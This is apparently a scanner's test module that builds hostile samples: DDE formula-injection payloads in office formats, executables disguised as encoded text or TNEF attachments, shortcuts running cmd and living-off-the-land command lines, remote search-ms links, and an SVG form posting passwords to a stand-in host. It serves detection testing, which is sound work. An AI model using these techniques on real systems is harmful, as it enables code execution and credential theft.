"""What was missed when the inspection was examined a third time: exchanges in texts, files in letters, items of the control panel."""

import base64

from tests.samples.documents import mail
from tests.samples.files import CONTROL_PANEL, panel_item, pe, shortcut, shortcut_by_items, zip_of
from tests.samples.hostile.cases import Case, Severity, single
from tests.samples.posted import HEADERS, base64_begun, uuencoded, wrapping, yencoded

HIGH, MEDIUM, LOW = Severity.HIGH, Severity.MEDIUM, Severity.LOW
HOST = "files.example.net"
SYSTEM = "C:\\Windows\\System32\\"
CALL = "cmd|'/c start x'!A1"
SPREADSHEET = '<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet" xmlns:ss="s">{}</Workbook>'.format
WORD = '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO "cmd" "/c start x"</w:instrText></w:r></w:p>'


def cases() -> list[Case]:
    """Exchanges in pages and XML, attachments without MIME, and shortcuts that few rules know."""
    return [*_exchanges(), *_attachments(), *_in_letters(), *_panel(), *_commands(), *_searches(), *_launchers()]


def _exchanges() -> list[Case]:
    page = f"<html><body><table><tr><td>={CALL}</td></tr></table></body></html>"
    word = f'<?xml version="1.0"?><w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml">{WORD}</w:wordDocument>'
    flat = '<?xml version="1.0"?><office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:t="t">{}</office:document>'
    field = "<span style='mso-element:field-begin'></span>DDEAUTO cmd &quot;/c start x&quot;<span style='mso-element:field-end'></span>"
    texts = {
        "Rates.xls": page,
        "Rates.csv": page,
        "Rates.html": page.replace("<html>", "<html xmlns:x='urn:schemas-microsoft-com:office:excel'>"),
        "Plan.doc": f"<html xmlns:w='urn:schemas-microsoft-com:office:word'>{field}</html>",
        "Sheet.xml": SPREADSHEET('<Cell ss:Formula="=cmd|&apos;/c start x&apos;!A1"/>'),
        "Sheet.xls": SPREADSHEET("<SupBook><Path>cmd|/c start x</Path></SupBook>"),
        "Letter.xml": word,
        "Letter2.doc": word,
        "Table.fods": flat.format('<t:table-cell t:formula="of:=DDE(&quot;cmd&quot;;&quot;/c start x&quot;;&quot;a&quot;)"/>'),
        "Sum.slk": f"ID;PWXL;N;E\r\nC;Y1;X1;K0;E{CALL}\r\nE\r\n",
        "Sum.csv": f"ID;P\r\nC;Y1;X1;K0;E{CALL}\r\nE\r\n",
        "List.xls": f"name,sum\r\nAnn,={CALL}\r\n",
        "List.csv": "name,sum\r\nAnn,=c\0m\0d|'/c start x'!A1\r\n",
        "Old.xls": f"MIME-Version: 1.0\nContent-Type: text/html\n\n<table><tr><td>={CALL}</td></tr></table>",
    }
    return [single("office: exchange in a text", name, body.encode(), "office.dde", least=HIGH) for name, body in texts.items()]


def _attachments() -> list[Case]:
    program = pe()
    mime = b"MIME-Version: 1.0\r\nContent-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\n\r\n"
    bodies = [
        HEADERS + b"\r\nSee below.\r\n\r\n" + uuencoded("Agenda.exe", program),
        HEADERS + b"\r\n" + yencoded("Agenda.scr", program),
        HEADERS + b"\r\n" + base64_begun("Agenda.com", program),
        HEADERS + b"\r\nSave this as a.exe:\r\n" + base64.encodebytes(program * 2),
        HEADERS + mime + base64.encodebytes(program),
        mail(attachments=[("winmail.dat", wrapping([("Agenda.exe", program)]))]),
        mail(attachments=[("winmail.dat", wrapping([("Agenda.lnk", shortcut(SYSTEM + "cmd.exe", "/c x"))], by_properties=True))]),
    ]
    files = [(f"Invitation {n}.eml", body) for n, body in enumerate(bodies)] + [("winmail.dat", wrapping([("Agenda.vbs", b"x = 1")]))]
    return [single("mail: attachment without MIME", name, body, "mail.dangerous-attachment", least=HIGH) for name, body in files]


def _in_letters() -> list[Case]:
    link = shortcut(SYSTEM + "cmd.exe", "/c start x")
    return [
        single("program spelt as text", "readme.txt", uuencoded("a", pe()), "executable.disguised"),
        single("program spelt as text", "words.txt", b"Dear all,\n" + yencoded("a", pe()), "executable.disguised"),
        single("program packed inside", "pictures.uue", uuencoded("p.zip", zip_of({"a.lnk": link})), "shortcut.command", least=HIGH),
        single("program packed inside", "pictures.ync", yencoded("p.zip", zip_of({"a.lnk": link})), "shortcut.command", least=HIGH),
    ]


def _panel() -> list[Case]:
    folder = b"\x2e\x80" + CONTROL_PANEL
    bodies = [
        shortcut_by_items(folder, panel_item("E:\\Photos\\~w4141.tmp")),
        shortcut_by_items(b"\x1f\x70" + CONTROL_PANEL, panel_item("\\\\.\\STORAGE#Volume#_??_USBSTOR\\a.dll")),
        shortcut_by_items(panel_item("F:\\a.cpl"), blocks=(16).to_bytes(4, "little") + bytes.fromhex("050000a0 03000000 14000000")),
    ]
    return [
        single("shortcut: item of the control panel", f"Copy {n}.lnk", body, "shortcut.command", least=HIGH)
        for n, body in enumerate(bodies)
    ]


def _commands() -> list[Case]:
    lines = [
        ("control.exe", "E:\\docs\\a.cpl"),
        ("msiexec.exe", "/y tool.dll"),
        ("msiexec.exe", "/qn /package a.msi"),
        ("OpenSSH\\ssh.exe", "-F .\\data x"),
        ("wsl.exe", "--exec sh data"),
        ("wt.exe", "-w 0 cmd /c data"),
        ("reg.exe", "import data.reg"),
        ("wuauclt.exe", "/UpdateDeploymentProvider a.dll /RunHandlerComServer"),
        ("winrm.vbs", "invoke Create wmicimv2/Win32_Process"),
        ("msedge.exe", "--no-sandbox --gpu-launcher=data.exe"),
    ]
    return [
        single("shortcut: command", f"Docs {n}.lnk", shortcut(SYSTEM + program, arguments), "shortcut.command", least=HIGH)
        for n, (program, arguments) in enumerate(lines)
    ]


def _searches() -> list[Case]:
    search = f"search-ms:query=invoice&crumb=location:\\\\{HOST}@8080\\docs&displayname=Search"
    bodies = [
        shortcut("", environment=search),
        shortcut_by_items(b"\x61\x80\0\0" + search.replace("\\", "%5C").encode("utf-16-le") + b"\0\0"),
        shortcut("C:\\Viewer\\view.exe", f"\\\\{HOST}\\docs\\a.pdf"),
    ]
    return [single("link to a program or foreign machine", f"Search {n}.lnk", body, "shortcut.remote") for n, body in enumerate(bodies)]


def _launchers() -> list[Case]:
    settings = bytes(2) + b"GAME".ljust(30) + bytes(337) + b"MICROSOFT PIFEX\0" + bytes(400)
    database = b"\0\1\0\0Standard ACE DB\0" + bytes(300) + "AutoExec".encode("utf-16-le") + bytes(40)
    form = b"<svg xmlns='http://www.w3.org/2000/svg'><foreignObject><form action='https://files.example.net'><input type='password'/></form></foreignObject></svg>"
    return [
        single("launcher of a rare kind", "Game.pif", settings, "executable.rare-launcher"),
        single("launcher of a rare kind", "Members.accde", database, "executable.rare-launcher"),
        single("drawing with a form", "Sign in.svg", form, "svg.script", least=HIGH),
    ]
